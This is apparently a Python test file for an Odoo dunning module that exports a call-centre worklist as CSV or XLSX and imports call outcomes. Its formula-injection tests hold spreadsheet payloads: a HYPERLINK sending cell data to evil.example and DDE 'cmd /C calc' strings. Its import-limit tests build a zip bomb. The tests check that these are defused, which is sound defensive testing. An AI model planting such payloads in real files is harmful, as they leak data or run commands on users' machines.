"""The external call centre: the worklist exported as CSV or XLSX, their outcomes imported back."""

import base64
import codecs
import csv
import io
import re
import tracemalloc
import zipfile
from contextlib import closing
from datetime import datetime

import openpyxl
from openpyxl.utils import get_column_letter

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import freeze_time

from odoo.addons.smart_dunning.wizards.callcentre_file import (
    COLUMNS,
    EXPORT_COLUMNS,
    write_csv,
    write_xlsx,
)

from .common import d
from .test_worklist import DUE, TODAY, WorklistCase


class CallcentreCase(WorklistCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["res.lang"]._activate_lang("nl_BE")
        cls.env["res.lang"]._activate_lang("fr_BE")
        cls.garage = cls.make_partner("Garage Lambert", lang="fr_BE", phone="+32 4 222 33 44")
        cls.jean = cls.env["res.partner"].create(
            {
                "name": "Jean Lambert",
                "parent_id": cls.garage.id,
                "phone": "+32 475 98 76 54",
                "lang": "fr_BE",
            }
        )
        # brewery: 2 invoices, 18 and 30 days late; garage: one, 40 days late, to its contact
        cls.inv_1 = cls.make_invoice(cls.customer, 1000.0, DUE)
        cls.inv_2 = cls.make_invoice(cls.customer, 250.5, d("2026-02-18"))
        cls.inv_3 = cls.make_invoice(cls.jean, 2000.0, d("2026-02-08"))

    def export(self, file_format="xlsx", lang="en_US", user=None, **vals):
        with freeze_time(TODAY):
            wizard = (
                self.env["dunning.callcentre.export"]
                .with_user(user or self.collector)
                .with_context(lang=lang)
                .create({"file_format": file_format, **vals})
            )
            action = wizard.action_export()
        self.assertEqual(action["target"], "download")
        return base64.b64decode(wizard.file_data), wizard

    def import_file(self, content, on_date=TODAY, lang="en_US", user=None, **vals):
        with freeze_time(on_date):
            wizard = (
                self.env["dunning.callcentre.import"]
                .with_user(user or self.collector)
                .with_context(lang=lang)
                .create({"file_data": base64.b64encode(content), "file_name": "calls.xlsx", **vals})
            )
            wizard.action_import()
        return wizard

    def csv_rows(self, content):
        """The exported CSV file as its header and rows of cells."""
        reader = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
        header, *rows = reader
        return header, rows

    def csv_file(self, header, rows, answers, delimiter=";"):
        """The CSV text of ``rows`` with the answers {invoice: {column: value}} filled in."""
        lines = [header]
        for row in rows:
            row = list(row)
            for column, value in answers.get(row[0], {}).items():
                row[header.index(column)] = value
            lines.append(row)
        return "\r\n".join(delimiter.join(line) for line in lines)

    def sheet(self, content):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return book, book.worksheets[0]

    def fill(self, content, outcomes):
        """The exported workbook with the call centre's answers: {invoice: {column: value}}."""
        book, sheet = self.sheet(content)
        headers = [cell.value for cell in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            answers = outcomes.get(row[0].value, {})
            for header, value in answers.items():
                row[headers.index(header)].value = value
        buffer = io.BytesIO()
        book.save(buffer)
        return buffer.getvalue()

    def calls(self):
        return self.env["dunning.call"].search([("source", "=", "call_centre")])


class TestExport(CallcentreCase):
    def test_csv_in_the_collectors_language_most_urgent_first(self):
        content, wizard = self.export("csv", lang="nl_BE")
        self.assertTrue(content.startswith(b"\xef\xbb\xbf"), "a BOM, for Excel")
        lines = content.decode("utf-8-sig").splitlines()
        header = lines[0].split(";")
        self.assertEqual(
            header[:4] + header[6:10],
            [
                "Factuur",
                "Klant",
                "Contact",
                "Telefoon",
                "Vervaldatum",
                "Verschuldigd bedrag",
                "Valuta",
                "Dagen achterstal",
            ],
        )
        self.assertIn("Resultaat", header)
        rows = [line.split(";") for line in lines[1:]]
        # garage: 2,000 x 40 = 80,000 before the brewery: 1,000 x 18 + 250.50 x 30 = 25,515
        self.assertEqual([r[0] for r in rows], [self.inv_3.name, self.inv_2.name, self.inv_1.name])
        self.assertEqual(wizard.row_count, 3)
        garage = dict(zip(header, rows[0], strict=True))
        # the quote keeps Excel from reading the number as a (broken) formula
        self.assertEqual(
            (garage["Klant"], garage["Contact"], garage["Telefoon"]),
            ("Garage Lambert", "Jean Lambert", "'+32 475 98 76 54"),
        )
        self.assertEqual(garage["Vervaldatum"], "2026-02-08")
        self.assertEqual(garage["Verschuldigd bedrag"], "2000,00")
        self.assertEqual(garage["Dagen achterstal"], "40")
        self.assertIn("Français", garage["Taal"])
        self.assertEqual(garage["Betalingsreferentie"], self.inv_3.payment_reference)
        brewery = dict(zip(header, rows[1], strict=True))
        self.assertEqual(
            (brewery["Verschuldigd bedrag"], brewery["Debiteurenbeheerder"]),
            ("250,50", "Cora Collector"),
        )
        self.assertEqual(brewery["Resultaat"], "", "for the call centre to fill in")

    def test_xlsx_in_french_with_real_dates_and_an_outcome_list(self):
        content, wizard = self.export("xlsx", lang="fr_BE")
        self.assertTrue(wizard.file_name.endswith(".xlsx"))
        book, sheet = self.sheet(content)
        headers = [cell.value for cell in sheet[1]]
        self.assertEqual(headers[:2], ["Facture", "Client"])
        self.assertIn("Résultat", headers)
        first = [cell.value for cell in sheet[2]]
        self.assertEqual(first[0], self.inv_3.name)
        self.assertEqual(first[headers.index("Date d'échéance")], datetime(2026, 2, 8))
        self.assertEqual(first[headers.index("Montant dû")], 2000.0)
        legend = [row[0].value for row in book.worksheets[1].iter_rows() if row[0].value]
        self.assertIn("Promesse de paiement", legend)
        self.assertEqual(len(legend), 6)
        self.assertTrue(sheet.data_validations.dataValidation, "the outcome is a drop-down")

    def test_selected_customers_or_one_collectors(self):
        with freeze_time(TODAY):
            wizard = (
                self.env["dunning.callcentre.export"]
                .with_user(self.collector)
                .with_context(active_model="dunning.worklist", active_ids=self.garage.ids)
                .create({"file_format": "csv"})
            )
        self.assertEqual(wizard.partner_ids, self.garage)
        content, _wizard = self.export("csv", partner_ids=[(6, 0, self.garage.ids)])
        self.assertEqual(len(content.decode("utf-8-sig").splitlines()), 2)
        content, _wizard = self.export("csv", user_id=self.collector.id)
        self.assertEqual(len(content.decode("utf-8-sig").splitlines()), 3, "the brewery's two")
        with self.assertRefused(UserError, "Nobody to call"):
            self.export("csv", user_id=self.seller.id)

    def test_a_number_known_to_be_wrong_is_left_out(self):
        with freeze_time(TODAY):
            self.env["dunning.call"].create(
                {"partner_id": self.garage.id, "outcome": "wrong_number", "phone": self.jean.phone}
            )
        content, _wizard = self.export("csv")
        header, garage = (line.split(";") for line in content.decode("utf-8-sig").splitlines()[:2])
        self.assertEqual(garage[header.index("Phone")], "")


class TestImport(CallcentreCase):
    def test_round_trip(self):
        content, _wizard = self.export("xlsx")
        # the brewery pays its older invoice after the export
        self.pay(self.inv_2, 250.5, d(TODAY))
        term_45 = self.env.ref("account.account_payment_term_45days")
        self.customer.property_payment_term_id = self.env.ref("account.account_payment_term_30days")
        answers = {
            self.inv_3.name: {
                "Outcome": "Promise to pay",
                "Call Date": datetime(2026, 3, 19, 10, 30),
                "Promised Payment Date": datetime(2026, 3, 31),
                "Note": "Jean pays at the end of the month",
            },
            self.inv_2.name: {"Outcome": "Reached"},
            self.inv_1.name: {
                "Outcome": "payment_term",
                "Call Date": "19/03/2026",
                "Payment Term Agreed": term_45.name,
            },
        }
        wizard = self.import_file(self.fill(content, answers))
        self.assertEqual(wizard.state, "done")
        self.assertEqual(
            (wizard.row_count, wizard.call_count, wizard.paid_count, wizard.not_called_count),
            (2, 2, 1, 0),
        )
        self.assertEqual(wizard.paid_names, self.inv_2.name)
        self.assertIn("Promise to pay: 1", wizard.summary)

        promise = self.calls().filtered(lambda c: c.outcome == "promise")
        self.assertEqual(
            (promise.partner_id, promise.contact_id, promise.move_ids, promise.user_id),
            (self.garage, self.jean, self.inv_3, self.collector),
        )
        self.assertEqual(promise.date, datetime(2026, 3, 19, 10, 30))
        self.assertEqual(promise.phone, "+32 475 98 76 54")
        self.assertEqual(
            (
                promise.plan_id.state,
                promise.plan_id.line_ids.date_due,
                promise.plan_id.amount_total,
            ),
            ("active", d("2026-03-31"), 2000.0),
        )
        term = self.calls().filtered(lambda c: c.outcome == "payment_term")
        self.assertEqual(term.date, datetime(2026, 3, 19, 12, 0), "a date alone: noon")
        self.assertEqual(self.customer.property_payment_term_id, term_45)
        self.assertIn("Call centre call", self.garage.message_ids[0].body)
        self.assertIn("Call centre call", self.inv_3.message_ids[0].body)
        self.assertFalse(self.on_list(self.inv_3), "promised")
        self.assertNotIn(self.inv_2, self.calls().move_ids, "paid: no call about it")

    def test_one_call_per_conversation(self):
        content, _wizard = self.export("csv")
        text = content.decode("utf-8-sig")
        header, *rows = (line.split(";") for line in text.splitlines())
        outcome, note = header.index("Outcome"), header.index("Note")
        for row in rows:
            row[outcome], row[note] = "no answer", "voicemail"
        text = "\n".join(";".join(row) for row in [header, *rows])
        wizard = self.import_file(text.encode("utf-8"))
        self.assertEqual((wizard.row_count, wizard.call_count), (3, 2))
        brewery = self.calls().filtered(lambda c: c.partner_id == self.customer)
        self.assertEqual(brewery.move_ids, self.inv_1 | self.inv_2)
        self.assertEqual(brewery.note, "voicemail")

    def test_headers_and_outcomes_in_another_language(self):
        content, _wizard = self.export("csv", lang="fr_BE")
        text = content.decode("utf-8-sig")
        header, *rows = (line.split(";") for line in text.splitlines())
        rows[0][header.index("Résultat")] = "Contestation"
        rows[0][header.index("Motif de contestation")] = "Pas reçu"
        text = "\n".join("\t".join(row) for row in [header, rows[0]])  # saved tab-separated
        wizard = self.import_file(text.encode("cp1252"), lang="nl_BE")
        dispute = self.calls().dispute_id
        self.assertEqual(wizard.call_count, 1)
        self.assertEqual(
            (dispute.move_ids, dispute.reason_id),
            (self.inv_3, self.env.ref("smart_dunning.dunning_dispute_reason_not_received")),
        )

    def test_a_bad_file_imports_nothing_and_says_why_row_by_row(self):
        content, _wizard = self.export("xlsx")
        book, sheet = self.sheet(content)
        sheet.append(["INV/1999/99999", *[None] * (len(EXPORT_COLUMNS) - 1), "Reached"])
        buffer = io.BytesIO()
        book.save(buffer)
        answers = {
            self.inv_3.name: {"Outcome": "Called back later"},
            self.inv_2.name: {"Outcome": "Promise to pay", "Promised Payment Date": "next week"},
            self.inv_1.name: {"Outcome": "Reached", "Call Date": "31/02/2026"},
        }
        calls_before = self.env["dunning.call"].search_count([])
        with self.assertRefused(UserError, "Nothing was imported") as refused:
            self.import_file(self.fill(buffer.getvalue(), answers))
        message = str(refused.exception)
        self.assertIn(f'Row 2 ({self.inv_3.name}): unknown outcome "Called back later"', message)
        self.assertIn(f'Row 3 ({self.inv_2.name}): the promised date "next week"', message)
        self.assertIn(f'Row 4 ({self.inv_1.name}): the call date "31/02/2026"', message)
        self.assertIn("Row 5 (INV/1999/99999): no posted customer invoice", message)
        self.assertEqual(self.env["dunning.call"].search_count([]), calls_before)
        self.assertFalse((self.inv_1 | self.inv_2 | self.inv_3).dunning_plan_ids)

    def test_missing_column_and_unreadable_files(self):
        with self.assertRefused(UserError, 'no column "Outcome"'):
            self.import_file(f"Invoice;Note\n{self.inv_1.name};x\n".encode())
        with self.assertRefused(UserError, "old Excel file"):
            self.import_file(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
        with self.assertRefused(UserError, "cannot be read"):
            self.import_file(b"PK\x03\x04 not really a workbook")
        with self.assertRefused(UserError, "empty"):
            self.import_file(b"\n;;\n")

    def test_promise_in_the_past_or_already_planned_is_refused(self):
        content, _wizard = self.export("xlsx")
        answers = {
            self.inv_3.name: {"Outcome": "Promise to pay", "Promised Payment Date": "2026-03-01"},
        }
        with self.assertRefused(UserError, "the promised date .* is in the past"):
            self.import_file(self.fill(content, answers))
        answers = {self.inv_1.name: {"Outcome": "Reached", "Call Date": "2026-03-21"}}
        with self.assertRefused(UserError, "the call date is in the future"):
            self.import_file(self.fill(content, answers))

    def test_salesperson_may_neither_export_nor_import(self):
        with self.assertRaises(AccessError):
            self.env["dunning.callcentre.import"].with_user(self.seller).create(
                {"file_data": base64.b64encode(b"Invoice;Outcome\n")}
            )
        with self.assertRaises(AccessError):
            self.env["dunning.callcentre.export"].with_user(self.seller).create({})


class TestFormulaInjection(CallcentreCase):
    """Text a customer controls must never reach a spreadsheet as a live formula (OWASP)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.garage.name = '=HYPERLINK("https://evil.example/?"&A1,"Pay here")'
        cls.jean.name = "@SUM(1+1)*cmd|' /C calc'!A0"
        cls.customer.email = "-2+3+cmd|' /C calc'!A0"

    def test_csv_cells_start_with_a_quote(self):
        content, _wizard = self.export("csv")
        header, rows = self.csv_rows(content)
        garage = dict(zip(header, rows[0], strict=True))
        self.assertEqual(garage["Customer"], '\'=HYPERLINK("https://evil.example/?"&A1,"Pay here")')
        self.assertEqual(garage["Contact"], "'@SUM(1+1)*cmd|' /C calc'!A0")
        self.assertEqual(garage["Phone"], "'+32 475 98 76 54")
        brewery = dict(zip(header, rows[1], strict=True))
        self.assertEqual(brewery["E-mail"], "'-2+3+cmd|' /C calc'!A0")
        self.assertEqual(brewery["Customer"], "Brouwerij De Kroon", "other text untouched")

    def test_xlsx_cells_are_quoted_strings_never_formulas(self):
        content, _wizard = self.export("xlsx")
        _book, sheet = self.sheet(content)
        headers = [cell.value for cell in sheet[1]]
        garage = {header: cell for header, cell in zip(headers, sheet[2], strict=False)}
        brewery = {header: cell for header, cell in zip(headers, sheet[3], strict=False)}
        for cell in (garage["Customer"], garage["Contact"], brewery["E-mail"]):
            self.assertEqual(cell.data_type, "s", "a string, not a formula")
            self.assertEqual(cell.value[0], "'", cell.value)
        self.assertEqual(
            garage["Customer"].value, '\'=HYPERLINK("https://evil.example/?"&A1,"Pay here")'
        )
        # a phone number has nothing a formula could do: left as the call centre dials it
        self.assertEqual(garage["Phone"].value, "+32 475 98 76 54")

    def test_a_note_starting_with_a_formula_character(self):
        row = ["INV/1", "Cust", "", "", "", "", None, 10.0, "EUR", 3, "", ""]
        row += ["Yes", "", None, None, "", ""]  # first contact, last letter and call
        outcome = ["Reached", "", None, None, "", "", "+ call back on Tuesday"]
        headers = [str(label) for label, _kind in COLUMNS.values()]
        text = write_csv(headers, [row + outcome]).decode("utf-8-sig")
        self.assertTrue(text.splitlines()[1].endswith(";'+ call back on Tuesday"), text)
        for note, written in (
            ("=1+1", "'=1+1"),
            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
            ("@x", "'@x"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("+32 2 555 12 34", "+32 2 555 12 34"),  # a number is not a formula
        ):
            book = openpyxl.load_workbook(
                io.BytesIO(write_xlsx(headers, [[*row, *outcome[:-1], note]], [], "C", "O", "d"))
            )
            value = book.worksheets[0].cell(2, len(headers)).value
            # XLSX escapes a carriage return as _x000D_, which openpyxl leaves as it is
            self.assertEqual(value.replace("_x000D_", "\r"), written)
        # the quote is not part of the note the call centre writes back
        content, _wizard = self.export("csv")
        header, rows = self.csv_rows(content)
        answers = {self.inv_3.name: {"Outcome": "Reached", "Note": "'+ call back on Tuesday"}}
        self.import_file(self.csv_file(header, rows, answers).encode())
        self.assertEqual(self.calls().note, "+ call back on Tuesday")


class TestImportLimits(CallcentreCase):
    """A file that is too large, too long or lies about its size is refused with a clear
    message, cheaply."""

    def answered_workbook(self):
        content, _wizard = self.export("xlsx")
        return self.fill(content, {self.inv_3.name: {"Outcome": "Reached"}})

    def rewrite_sheet(self, content, change):
        """The workbook with its first sheet's XML passed through ``change``."""
        source = zipfile.ZipFile(io.BytesIO(content))
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for info in source.infolist():
                data = source.read(info.filename)
                if info.filename == "xl/worksheets/sheet1.xml":
                    data = change(data.decode()).encode()
                target.writestr(info.filename, data)
        return buffer.getvalue()

    def import_measured(self, content):
        """Import, and return the wizard and the peak of memory allocated meanwhile."""
        tracemalloc.start()
        try:
            wizard = self.import_file(content)
        finally:
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        return wizard, peak

    def test_a_sheet_declaring_16384_columns_is_read_in_little_memory(self):
        # 16,384 columns declared and a cell 2,000 rows down: reading every declared cell
        # takes 260 MB (137 GB with the cell on the last row, 1,048,576)
        content = self.rewrite_sheet(
            self.answered_workbook(),
            lambda xml: re.sub(
                r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD2000"/>', xml
            ).replace(
                "</sheetData>",
                '<row r="2000"><c r="A2000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
            ),
        )
        self.assertLess(len(content), 10_000)
        wizard, peak = self.import_measured(content)
        self.assertEqual((wizard.call_count, self.calls().move_ids), (1, self.inv_3))
        self.assertEqual(wizard.not_called_count, 3, "row 2000 has no outcome")
        self.assertLess(peak, 30 * 1024 * 1024, "the declared size is not allocated")

    def test_a_row_far_away_or_too_wide_is_refused_in_little_memory(self):
        far = self.rewrite_sheet(
            self.answered_workbook(),
            lambda xml: xml.replace(
                "</sheetData>",
                '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
                "</sheetData>",
            ),
        )
        tracemalloc.start()
        with self.assertRefused(UserError, "This file has more than 50000 rows"):
            self.import_file(far)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        self.assertLess(peak, 30 * 1024 * 1024)
        cells = "".join(f'<c r="{get_column_letter(col)}9"><v>1</v></c>' for col in range(1, 5001))
        wide = self.rewrite_sheet(
            self.answered_workbook(),
            lambda xml: xml.replace("</sheetData>", f'<row r="9">{cells}</row></sheetData>'),
        )
        with self.assertRefused(UserError, "A row of this file has more than 1000 cells"):
            self.import_file(wide)
        self.assertFalse(self.calls())

    def test_a_zip_bomb_is_not_unpacked(self):
        self.company.dunning_import_max_mb = 1
        # 11 MB of XML that zips to a few kB
        bomb = self.rewrite_sheet(
            self.answered_workbook(),
            lambda xml: xml.replace("</sheetData>", "</sheetData>" + " " * 11_000_000),
        )
        self.assertLess(len(bomb), 1024 * 1024)
        with self.assertRefused(UserError, "unpacks to more than 10 MB"):
            self.import_file(bomb)

    def test_size_and_row_limits_from_the_settings(self):
        settings = self.env["res.config.settings"].create({})
        self.assertEqual(
            (settings.dunning_import_max_mb, settings.dunning_import_max_rows), (10, 50000)
        )
        settings.write({"dunning_import_max_mb": 1, "dunning_import_max_rows": 2})
        settings.execute()
        content, _wizard = self.export("csv")
        header, rows = self.csv_rows(content)
        answers = {name: {"Outcome": "No answer"} for name in (self.inv_1.name, self.inv_3.name)}
        text = self.csv_file(header, rows, answers)
        with self.assertRefused(UserError, "This file has more than 2 rows"):
            self.import_file(text.encode())
        # blank lines count as nothing once past... but a note of 1.2 MB makes the file too big
        big = self.csv_file(
            header, rows[:1], {self.inv_3.name: {"Outcome": "Reached", "Note": "x" * 1_200_000}}
        )
        with self.assertRefused(UserError, "This file is 1.1 MB; files over 1 MB"):
            self.import_file(big.encode())
        self.assertFalse(self.calls())
        self.company.dunning_import_max_rows = 3
        self.assertEqual(self.import_file(text.encode()).call_count, 2)
        with self.assertRefused(ValidationError, "at least 1"):
            self.company.dunning_import_max_rows = 0

    def test_blank_leading_rows_are_skipped_and_rows_keep_their_number(self):
        content, _wizard = self.export("csv")
        header, rows = self.csv_rows(content)
        text = self.csv_file(header, rows, {self.inv_1.name: {"Outcome": "Called back"}})
        with self.assertRefused(UserError, f"Row 7 \\({self.inv_1.name}\\): unknown outcome"):
            self.import_file(("\r\n;;\r\n\r\n" + text).encode())


class TestImportEncodings(CallcentreCase):
    def answered_text(self, delimiter=";"):
        content, _wizard = self.export("csv", lang="fr_BE")
        header, rows = self.csv_rows(content)
        answers = {self.inv_3.name: {"Résultat": "Pas de réponse", "Remarque": "Réessayer à 14 h"}}
        return self.csv_file(header, rows, answers, delimiter)

    def test_utf16_with_or_without_a_byte_order_mark(self):
        # Excel's "Unicode Text": UTF-16 with a byte-order mark, tab-separated
        text = self.answered_text("\t")
        for content in (text.encode("utf-16"), text.encode("utf-16-le"), text.encode("utf-16-be")):
            # Calls cannot be deleted: each import of the same file is undone before the next.
            with closing(self.env.cr.savepoint()):
                wizard = self.import_file(content)
                self.assertEqual(wizard.call_count, 1)
                self.assertEqual(self.calls()[0].note, "Réessayer à 14 h")
            self.env.invalidate_all()

    def test_utf8_without_a_mark_and_windows_1252(self):
        for content in (self.answered_text().encode(), self.answered_text().encode("cp1252")):
            with closing(self.env.cr.savepoint()):
                self.import_file(content)
                self.assertEqual(self.calls().note, "Réessayer à 14 h")
            self.env.invalidate_all()

    def test_a_file_in_no_known_encoding_gets_a_clear_message(self):
        for content in (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10",
            codecs.BOM_UTF16_LE + b"\x00\xd8\x00\xd8",  # a lone surrogate: not UTF-16
        ):
            with self.assertRefused(UserError, "not a text file in an encoding we can read"):
                self.import_file(content)


class TestImportDates(CallcentreCase):
    def import_dates(self, call_date, promise_date="", **vals):
        content, _wizard = self.export("csv")
        header, rows = self.csv_rows(content)
        answers = {
            self.inv_3.name: {
                "Outcome": "Promise to pay",
                "Call Date": call_date,
                "Promised Payment Date": promise_date or "2026-04-10",
            }
        }
        return self.import_file(self.csv_file(header, rows, answers).encode(), **vals)

    def test_day_first_by_default_whatever_the_users_language(self):
        self.import_dates("05/03/2026", "10/04/2026")
        call = self.calls()
        self.assertEqual(call.date, datetime(2026, 3, 5, 12, 0), "5 March, not 3 May")
        self.assertEqual(call.plan_id.line_ids.date_due, d("2026-04-10"))

    def test_month_first_when_declared(self):
        self.import_dates("03/05/2026 09:15", "04/10/2026", date_format="mdy")
        call = self.calls()
        self.assertEqual(call.date, datetime(2026, 3, 5, 9, 15))
        self.assertEqual(call.plan_id.line_ids.date_due, d("2026-04-10"))

    def test_iso_dates_always(self):
        self.import_dates("2026-03-05T09:15", "2026-04-10", date_format="mdy")
        self.assertEqual(self.calls().date, datetime(2026, 3, 5, 9, 15))

    def test_invalid_or_ambiguous_dates_are_row_errors(self):
        name = self.inv_3.name
        with self.assertRefused(
            UserError, f'Row 2 \\({name}\\): the call date "03/25/2026" is not a date'
        ):
            self.import_dates("03/25/2026")
        with self.assertRefused(
            UserError,
            f'Row 2 \\({name}\\): the date "05/03/26" in the column "Call Date" is ambiguous',
        ):
            self.import_dates("05/03/26")
        with self.assertRefused(UserError, 'the promised date "04/31/2026" is not a date'):
            self.import_dates("2026-03-05", "04/31/2026", date_format="mdy")
        self.assertFalse(self.calls())


class TestReimport(CallcentreCase):
    def test_the_same_file_twice_logs_each_call_once(self):
        content, _wizard = self.export("xlsx")
        self.customer.property_payment_term_id = self.env.ref("account.account_payment_term_30days")
        answers = {
            self.inv_3.name: {
                "Outcome": "Promise to pay",
                "Call Date": datetime(2026, 3, 19, 10, 30),
                "Promised Payment Date": datetime(2026, 3, 31),
            },
            self.inv_1.name: {
                "Outcome": "payment_term",
                "Call Date": "19/03/2026",
                "Payment Term Agreed": self.env.ref("account.account_payment_term_45days").name,
            },
            self.inv_2.name: {"Outcome": "No answer"},
        }
        filled = self.fill(content, answers)
        first = self.import_file(filled)
        self.assertEqual((first.call_count, first.duplicate_count), (3, 0))
        plans = self.env["dunning.plan"].search([])
        again = self.import_file(filled, on_date="2026-03-20 16:00:00")
        self.assertEqual(again.state, "done")
        self.assertEqual((again.call_count, again.row_count, again.duplicate_count), (0, 0, 3))
        self.assertEqual(
            set(again.duplicate_names.split(", ")),
            {self.inv_1.name, self.inv_2.name, self.inv_3.name},
        )
        self.assertEqual(len(self.calls()), 3)
        self.assertEqual(self.env["dunning.plan"].search([]), plans, "no second promise")
        # a later file with a new call on the same invoice is new: logged
        answers[self.inv_2.name] = {"Outcome": "Reached", "Call Date": "20/03/2026 15:00"}
        later = self.import_file(self.fill(content, answers), on_date="2026-03-20 16:00:00")
        self.assertEqual((later.call_count, later.duplicate_count), (1, 2))
        self.assertEqual(len(self.calls()), 4)


class TestAllOrNothing(CallcentreCase):
    def test_one_good_row_and_one_bad_row_import_nothing(self):
        content, _wizard = self.export("csv")
        header, rows = self.csv_rows(content)
        answers = {
            self.inv_3.name: {"Outcome": "Promise to pay", "Promised Payment Date": "31/03/2026"},
            self.inv_1.name: {"Outcome": "Called back later"},
        }
        messages = self.env["mail.message"].search_count([])
        with self.assertRefused(UserError, "Nothing was imported") as refused:
            self.import_file(self.csv_file(header, rows, answers).encode())
        message = str(refused.exception)
        self.assertIn(f'Row 4 ({self.inv_1.name}): unknown outcome "Called back later"', message)
        self.assertNotIn(self.inv_3.name, message)
        self.assertFalse(self.env["dunning.call"].search([]))
        self.assertFalse(self.inv_3.dunning_plan_ids, "the good row's promise is not made")
        self.assertEqual(self.env["mail.message"].search_count([]), messages)
        self.assertTrue(self.on_list(self.inv_3))
